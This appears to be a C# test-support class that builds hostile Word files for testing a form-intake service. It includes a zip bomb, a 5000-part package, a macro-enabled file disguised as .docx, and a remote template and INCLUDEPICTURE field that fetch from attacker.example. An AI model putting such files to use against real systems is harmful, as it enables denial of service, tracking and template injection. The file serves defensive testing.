using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;

namespace ReviewFunctions.Infrastructure.Tests.Intake.Support;

/// <summary>Files built to hurt whoever opens them, made here so each test shows exactly what it is.</summary>
internal static class HostileFiles
{
    /// <summary>
    /// A Word form whose old-style check box gives its state as "maybe". The OpenXml SDK throws a FormatException on
    /// reading it, which the form reader does not expect: intake fails on it every time, as on a message that crashes
    /// the parser.
    /// </summary>
    public static byte[] CheckBoxInNoState() => new DocxBuilder()
        .Paragraph("Referral form")
        .Element(new Paragraph(new Run(new FieldChar(new FormFieldData(new CheckBox(new DefaultCheckBoxFormFieldState { Val = new OnOffValue { InnerText = "maybe" } }))) { FieldCharType = FieldCharValues.Begin })))
        .Build();

    /// <summary>A "docx" whose one part inflates from about 100 KB to 200 MB of zeros.</summary>
    public static byte[] ZipBomb()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            Write(zip, "[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
            using var entry = zip.CreateEntry("word/document.xml", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 200; i++)
            {
                entry.Write(zeros);
            }
        }

        return stream.ToArray();
    }

    /// <summary>A "docx" of thousands of tiny parts: each harmless, together far more than any form.</summary>
    public static byte[] ManyParts()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            for (var i = 0; i < 5000; i++)
            {
                Write(zip, $"word/part{i}.xml", "<x/>");
            }
        }

        return stream.ToArray();
    }

    /// <summary>A macro-enabled document saved under a .docx name.</summary>
    public static byte[] WithMacros()
    {
        using var stream = new MemoryStream();
        using (var document = WordprocessingDocument.Create(stream, WordprocessingDocumentType.MacroEnabledDocument))
        {
            var main = document.AddMainDocumentPart();
            main.Document = new Document(new Body(new Paragraph(new Run(new Text("Name of child: Jayden Marsh")))));
            var vba = main.AddNewPart<VbaProjectPart>();
            using (var bin = vba.GetStream(FileMode.Create))
            {
                bin.Write("Attribute VB_Name = \"AutoOpen\""u8);
            }

            main.Document.Save();
        }

        return stream.ToArray();
    }

    /// <summary>The real form, set to load its template from a web server when opened.</summary>
    public static byte[] WithRemoteTemplate() => new FormContent().ToDocxBuilder().Part(document =>
    {
        var settings = document.MainDocumentPart!.AddNewPart<DocumentSettingsPart>();
        var link = settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://attacker.example/form.dotm"));
        settings.Settings = new Settings(new AttachedTemplate { Id = link.Id });
        settings.Settings.Save();
    }).Build();

    /// <summary>The real form with a field that fetches a picture from elsewhere (a tracking pixel, or worse).</summary>
    public static byte[] WithIncludePicture() => new FormContent().ToDocxBuilder().Element(new Paragraph(
        new Run(new FieldChar { FieldCharType = FieldCharValues.Begin }),
        new Run(new FieldCode(" INCLUDEPICTURE \"http://attacker.example/p.png\" \\d ") { Space = SpaceProcessingModeValues.Preserve }),
        new Run(new FieldChar { FieldCharType = FieldCharValues.End }))).Build();

    /// <summary>The start of an OLE compound file: what a password-protected or old .doc file is.</summary>
    public static byte[] CompoundFile() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];

    public static byte[] Random(int length)
    {
        var bytes = new byte[length];
        new System.Random(42).NextBytes(bytes);
        return bytes;
    }

    private static void Write(ZipArchive zip, string name, string text)
    {
        using var entry = zip.CreateEntry(name).Open();
        entry.Write(Encoding.UTF8.GetBytes(text));
    }
}
